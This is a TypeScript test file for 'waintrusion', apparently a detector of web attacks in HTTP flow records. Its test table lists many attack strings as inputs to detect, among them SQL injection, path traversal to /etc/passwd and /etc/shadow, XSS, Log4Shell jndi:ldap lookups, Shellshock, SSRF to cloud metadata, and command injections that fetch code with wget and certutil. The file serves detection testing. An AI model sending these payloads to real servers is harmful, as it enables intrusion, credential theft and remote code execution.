// SPDX-License-Identifier: BSD-3-Clause
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these braces are of attacks.
import { describe, expect, test } from "bun:test";
import { testDetector } from "../../core/testing/detector-kit.ts";
import { play } from "../../core/testing/play.ts";
import type { Row } from "../../core/testing/run-module.ts";
import { SECOND } from "../../core/unirec/time.ts";
import { Automaton, folded } from "./automaton.ts";
import { Decoder, TEXT_MAX } from "./decoder.ts";
import waintrusion from "./index.ts";
import { FAMILIES, type Family, IN, WORDS, wordsOf } from "./indications.ts";
import { indicationsOf } from "./points.ts";
import { Request } from "./request.ts";

const START = 1_704_067_200 * SECOND;
const BROWSER =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

const request = (i: number, url: string, more: Row = {}): Row => ({
  SRC_IP: "198.51.100.7",
  DST_IP: "10.0.0.80",
  SRC_PORT: 40_000 + (i % 1000),
  DST_PORT: 80,
  PROTOCOL: 6,
  TIME_FIRST: START + i * SECOND,
  TIME_LAST: START + i * SECOND,
  HTTP_REQUEST_METHOD: "GET",
  HTTP_REQUEST_HOST: "www.example.com",
  HTTP_REQUEST_URL: url,
  HTTP_REQUEST_AGENT: BROWSER,
  HTTP_REQUEST_REFERER: "http://www.example.com/",
  HTTP_RESPONSE_STATUS_CODE: 200,
  ...more,
});

const SQL = "/item?id=1'%20union%20select%20user,password%20from%20users--%20";
/** Requests of browsers, programs and search engines, some of which look a little like attacks. */
const HARMLESS: readonly string[] = [
  "/",
  "/index.html",
  "/search?q=o%27reilly+books+and+more",
  "/search?q=select+a+union+from+the+list",
  "/a/b/../c.css",
  "/img/photo%20(1).jpg",
  "/api/v1/items?filter[name]=x&sort=-date&order+by=1",
  "/recaptcha/api.js?onload=ready&render=explicit",
  "/redirect?to=http%3A%2F%2Fexample.org%2Fpath%3Fa%3D1%26b%3D2",
  "/wiki/Drop_table",
  "/cgi-bin/status.cgi?host=web1",
  "/docs/etc/passwords.html",
  "/?price=10%25&name=J%C3%BCrgen",
  "/%E4%B8%AD%E6%96%87?q=%C0%AD%C0%AE",
  "/download?file=report_2024-01.pdf",
  "/static/system32.png",
  "/check.lp?dsl=1&old_dsl=Up",
  "/tmp/upload/1.png",
  "/a;jsessionid=0123456789ABCDEF?x=1",
  "/q?text=I+don%27t+know+or+care",
  "/.well-known/acme-challenge/abc",
  "/environment/.envelope",
];

testDetector(waintrusion, {
  alert: Array.from({ length: 10 }, (_, i) => request(i, SQL)),
  quiet: HARMLESS.map((url, i) => request(i, url)),
  other: (i) =>
    request(0, "/search?q=it%27s", {
      SRC_IP: `10.${1 + (i >>> 16)}.${(i >>> 8) & 255}.${i & 255}`,
    }),
  small: { pairsMax: 16 },
  evicted: "pairs_evicted",
  stateMax: 4_000_000,
});

describe("waintrusion", () => {
  const alertsOf = (rows: readonly Row[], params = {}) =>
    play(waintrusion, rows, { params }).alerts;
  const rulesOf = (url: string, more: Row = {}, params = {}): string[] =>
    play(waintrusion, [request(0, url, more)], { params }).out["alerts"]!.map((row) =>
      String(row["WAI_RULE"]),
    );

  const ATTACKS: readonly (readonly [rule: string, url: string, more?: Row])[] = [
    ["traversal", "/download?file=../../../../secret.txt"],
    ["traversal", "/static/..%2f..%2f..%2fsecret"],
    ["traversal", "/a/%2e%2e/%2e%2e/%2e%2e/x"],
    ["traversal", "/a/..%255c..%255c..%255cx"],
    ["traversal", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/x"],
    ["traversal", "/a/%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/"],
    ["files", "/view?page=/etc/passwd"],
    ["files", "/view?page=/etc/./passwd/../shadow&x=/proc/self/environ"],
    ["files", "/?f=C:%5CWindows%5CSystem32%5Cdrivers"],
    ["restricted", "/.git/config"],
    ["restricted", "/app/.env"],
    ["restricted", "/wp-config.php.bak"],
    ["restricted", "/actuator/heapdump"],
    ["php", "/index.php?page=php://filter/convert.base64-encode/resource=x"],
    ["php", "/?x=<?php%20phpinfo();"],
    ["php", "/index.php?s=/index/think/app/invokefunction&function=x"],
    ["php", "/", { HTTP_REQUEST_AGENT: "<?php eval($_POST[1]);?>" }],
    ["shell", "/cgi?x=;cat%20/x;id"],
    ["shell", "/ping?ip=1.1.1.1|wget%20http://198.51.100.1/x"],
    ["shell", "/ping?ip=$(id)"],
    ["shell", "/cgi-bin/status", { HTTP_REQUEST_AGENT: "() { :;}; /bin/bash -c id" }],
    ["powershell", "/x?c=powershell%20-enc%20AAAA"],
    ["powershell", "/x?c=cmd.exe+/c+certutil+-urlcache+-f+http://x/y"],
    ["sql", SQL],
    ["sql", "/item?id=1'+or+'1'='1"],
    ["sql", "/item?id=1+or+1=1"],
    ["sql", "/item?id=1%27%20and%201%3D1%23"],
    ["sql", "/item?id=1/**/union/**/select/**/1"],
    ["sql", "/item?id=1/**/or/**/sleep(5)"],
    ["sql", "/item?id=1'/*!50000union*/%20/*!select*/%201--"],
    ["sql", "/item?id=-1%0aUnIoN%09sElEcT%0b1,2,3%20from%20t"],
    ["sql", "/item?id=1;waitfor%20delay%20'0:0:5'"],
    ["sql", "/item?id=1%2527%2520or%25201=1"],
    ["sql", "/item?id=1')+or+('a'='a"],
    ["xss", "/search?q=<script>alert(1)</script>"],
    ["xss", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"],
    ["xss", "/search?q=%3Csvg/onload=alert(1)%3E"],
    ["xss", "/search?q=%253cscript%253e"],
    ["xss", "/search?q=%u003cscript%u003e"],
    ["java", "/?x=${jndi:ldap://198.51.100.1/a}"],
    ["java", "/", { HTTP_REQUEST_AGENT: "jndi:ldap://198.51.100.1:1389/a" }],
    ["java", "/", { HTTP_REQUEST_REFERER: "${${lower:j}ndi:${lower:l}dap://x/a}" }],
    ["java", "/?class.module.classLoader.resources.context=x"],
    ["java", "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/"],
    ["java", "/", { HTTP_REQUEST_HOST: "${jndi:rmi://x/a}" }],
    [
      "scanners",
      "/",
      { HTTP_REQUEST_AGENT: "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)" },
    ],
    ["scanners", "/", { HTTP_REQUEST_AGENT: "sqlmap/1.7#stable (https://sqlmap.org)" }],
    ["scanners", "/", { HTTP_REQUEST_AGENT: "Mozilla/5.0 zgrab/0.x" }],
    ["scanners", "/nice%20ports%2C/Tri%6Eity.txt%2ebak"],
    ["protocol", "/redirect?to=x%0d%0aSet-Cookie:%20a=b"],
    ["inclusion", "/fetch?url=http://169.254.169.254/latest/meta-data/"],
    ["inclusion", "/fetch?url=file:///x"],
    ["methods", "/", { HTTP_REQUEST_METHOD: "TRACK" }],
  ];
  test.each(ATTACKS)("waintrusion knows an attack: %s %s", (rule, url, more = {}) => {
    expect(rulesOf(url, more)).toEqual([rule]);
  });

  test("waintrusion has an attack among its tests for each of its kinds", () => {
    expect([...new Set(ATTACKS.map(([rule]) => rule))].sort()).toEqual([...FAMILIES].sort());
  });

  test.each(HARMLESS)("waintrusion lets pass: %s", (url) => {
    expect(rulesOf(url)).toEqual([]);
  });

  test("waintrusion lets pass the agents of programs and crawlers, and unknown methods", () => {
    const agents = [
      "curl/8.5.0",
      "Wget/1.21.4",
      "python-requests/2.31",
      "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
      "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041",
      "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36",
      "Microsoft-CryptoAPI/10.0",
      "",
    ];
    for (const agent of agents) expect(rulesOf("/", { HTTP_REQUEST_AGENT: agent })).toEqual([]);
    for (const method of ["PROPFIND", "INVALIDMETHOD", "DELETE"])
      expect(rulesOf("/", { HTTP_REQUEST_METHOD: method })).toEqual([]);
  });

  test("waintrusion does not take where a browser came from for an attack", () => {
    const referer = `http://www.example.com${SQL}`;
    expect(rulesOf("/style.css", { HTTP_REQUEST_REFERER: referer })).toEqual([]);
  });

  test("waintrusion passes over responses alone", () => {
    expect(rulesOf(SQL, { HTTP_REQUEST_METHOD: "" })).toEqual([]);
  });

  test("waintrusion has one event for a client, a server and a kind, with what was found", () => {
    const rows = [
      ...Array.from({ length: 10 }, (_, i) => request(i, SQL)),
      request(11, "/.git/config", { HTTP_RESPONSE_STATUS_CODE: 404 }),
      request(2000, "/", { SRC_IP: "10.0.0.9" }),
    ];
    const { alerts, out } = play(waintrusion, rows);
    expect(alerts.map(({ rule, flows, state }) => [rule, flows, state])).toEqual([
      [9_000_147, 1, "open"],
      [9_000_147, 2, "open"],
      [9_000_147, 4, "open"],
      [9_000_147, 8, "open"],
      [9_000_143, 1, "open"],
      [9_000_147, 10, "closed"],
      [9_000_143, 1, "closed"],
    ]);
    expect(alerts[0]).toMatchObject({
      key: "waintrusion:198.51.100.7>10.0.0.80:sql",
      reason: `198.51.100.7 sent a request with signs of an attack (sql) to 10.0.0.80 port 80: 13 points (limit 5), most in HTTP_REQUEST_URL: "/item?id=1' union select user,password from users-- "; the server answered 200`,
      observed: 13,
      threshold: 5,
      source: { ip: "198.51.100.7", port: 40_000 },
      target: { ip: "10.0.0.80", port: 80 },
      protocol: 6,
    });
    expect(out["alerts"]![0]).toEqual({
      SRC_IP: "198.51.100.7",
      DST_IP: "10.0.0.80",
      SRC_PORT: 40_000,
      DST_PORT: 80,
      PROTOCOL: 6,
      TIME_FIRST: START,
      TIME_LAST: START,
      EVENT_TIME: START,
      WAI_RULE: "sql",
      WAI_MALICIOUS_FIELD: "HTTP_REQUEST_URL",
      WAI_MALICIOUS_VALUE: "/item?id=1' union select user,password from users-- ",
    });
  });

  test("waintrusion shows a bounded part, escaped, around what it found", () => {
    const url = `/${"x".repeat(3000)}%0a%00%e4'\\%3cscript%3e${"y".repeat(3000)}`;
    const [record] = play(waintrusion, [request(0, url)]).out["alerts"]!;
    const value = String(record!["WAI_MALICIOUS_VALUE"]);
    expect(value).toContain("\\x0a\\x00\\xe4'\\x5c<script>y");
    expect(value.length).toBeLessThan(500);
  });

  test("waintrusion adds up different weak indications of a client, each once", () => {
    const weak = [
      "/a?x='",
      "/a/../b",
      "/${x}",
      "/?a=<a%20href",
      "/x?y=alert(1",
      "/root/",
      "/x?=ldap://",
      "/?a=%00",
      "/?a=$(x",
    ];
    const [alert] = alertsOf(weak.map((url, i) => request(i, url)));
    expect(alert).toMatchObject({ rule: 9_000_153, threshold: 20 });
    expect(alertsOf(Array.from({ length: 200 }, (_, i) => request(i, "/search?q=it's")))).toEqual(
      [],
    );
    expect(alertsOf(weak.map((url, i) => request(i, url, { SRC_IP: `10.0.0.${i}` })))).toEqual([]);
  });

  test("waintrusion looks for the rules that are chosen", () => {
    expect(rulesOf(SQL, {}, { rules: "xss, files" })).toEqual([]);
    expect(rulesOf(SQL, {}, { rules: "request_application_attack_sqli xss" })).toEqual(["sql"]);
    expect(rulesOf(SQL, {}, { without: "sql" })).toEqual([]);
    expect(rulesOf("/", { HTTP_REQUEST_METHOD: "TRACE" }, { without: "methods" })).toEqual([]);
    expect(() => rulesOf("/", {}, { rules: "sqli" })).toThrow('no rule "sqli"; there are methods');
  });

  test("waintrusion sees IPv6 and any port", () => {
    const v6 = { SRC_IP: "2001:db8::7", DST_IP: "2001:db8::80", DST_PORT: 443 };
    expect(alertsOf([request(0, SQL, v6)])[0]!.source.ip).toBe("2001:db8::7");
  });
});

describe("waintrusion's search", () => {
  const everything = indicationsOf(new Set<Family>(FAMILIES));
  const search = new Request(everything);
  const scoreOf = (text: string): number => {
    const bytes = new TextEncoder().encode(text);
    search.begin();
    search.look(bytes, 0, bytes.length, IN.url);
    return search.total;
  };

  test("waintrusion finds each of its words, whatever its case", () => {
    for (const entry of WORDS)
      for (const word of wordsOf(entry)) {
        const plain = word.replace(/^\^/, "").replace(/(?<=.)\$$/, "");
        const bytes = new TextEncoder().encode(plain.toUpperCase());
        search.begin();
        search.look(bytes, 0, bytes.length, entry.in & -entry.in);
        expect([word, search.total >= entry.points]).toEqual([word, true]);
      }
  });

  test("waintrusion's automaton finds words within words and at their ends", () => {
    const words = ["he", "she", "his", "hers"];
    const automaton = new Automaton(
      words.map((word) => ({ text: folded(word), starts: false, ends: false })),
    );
    const found: string[] = [];
    let state = 0;
    for (const byte of folded("ushers his")) {
      state = automaton.next[(state << 6) | automaton.classOf[byte]!]!;
      for (
        let end = automaton.hits[state] === 0 ? automaton.more[state]! : state;
        end !== 0;
        end = automaton.more[end]!
      )
        found.push(words[automaton.hits[end]! - 1]!);
    }
    expect(found).toEqual(["she", "he", "hers", "his"]);
  });

  test("waintrusion heeds where words begin and end", () => {
    expect(scoreOf("/.env")).toBe(5);
    expect(scoreOf("/.envelope")).toBe(0);
    expect(scoreOf("/.env%20")).toBe(5);
    expect(scoreOf("asleep(1)")).toBe(0);
    expect(scoreOf("(sleep(1)")).toBe(4);
  });

  test("waintrusion decodes what can be decoded and leaves the rest", () => {
    const decoder = new Decoder();
    const decoded = (text: string): string => {
      const bytes = new TextEncoder().encode(text);
      decoder.decode(bytes, 0, bytes.length);
      return new TextDecoder("latin1").decode(decoder.bytes.subarray(0, decoder.length));
    };
    expect(decoded("%41%4a%4A%zz%4%%41%u0041%uFF1c%u20ac%u12%")).toBe("AJJ%zz%4%AA<?%u12%");
    expect(decoded("%2527")).toBe("%27");
  });

  test("waintrusion looks at no more of a field than its bound, and counts what it cut", () => {
    const long = `${"a".repeat(TEXT_MAX)}<script>`;
    expect(scoreOf(long)).toBe(0);
    expect(scoreOf(long.slice(1))).toBe(0);
    const { runner } = play(waintrusion, [request(0, long)]);
    expect(runner.counters.get("fields_cut")).toBe(1);
  });

  /**
   * Steps, not time: each pass is over at most {@link TEXT_MAX} bytes, a look behind a word goes as far as two constants do,
   * and a comment without an end is looked for once.
   */
  const HOSTILE: readonly (readonly [string, string])[] = [
    ["quotes and or", "' or "],
    ["constants", "or a=b "],
    ["begins of words", "../"],
    ["comments without an end", "/* "],
    ["comments", "/*"],
    ["comments within comments", "/*/*!"],
    ["percent signs", "%"],
    ["percent signs, encoded", "%25"],
    ["percent signs, encoded twice", "%2525"],
    ["half characters", "%u"],
    ["overlong characters", "%c0"],
    ["blanks", "union   \t  "],
    ["nested look-ups", "${${"],
    ["tags", "<script<"],
    ["select and from", "select from "],
    ["fullwidth letters", "\uff1c"],
  ];
  test.each(HOSTILE)(
    "waintrusion searches 64 kB of %s in as many steps as it has bytes",
    (_, piece) => {
      const text = piece.repeat(Math.ceil(65_000 / piece.length)).slice(0, 60_000);
      const bytes = new TextEncoder().encode(text).subarray(0, 65_000);
      let reads = 0;
      const counted = new Proxy(bytes, {
        get(target, key) {
          if (typeof key === "string" && key.charCodeAt(0) <= 0x39) reads++;
          const value = Reflect.get(target, key, target);
          return typeof value === "function" ? value.bind(target) : value;
        },
      });
      search.begin();
      search.look(counted as Uint8Array, 0, bytes.length, IN.url);
      expect(reads).toBeLessThan(TEXT_MAX * 5);
      expect(search.found.length).toBeGreaterThanOrEqual(search.foundCount);
    },
  );
});
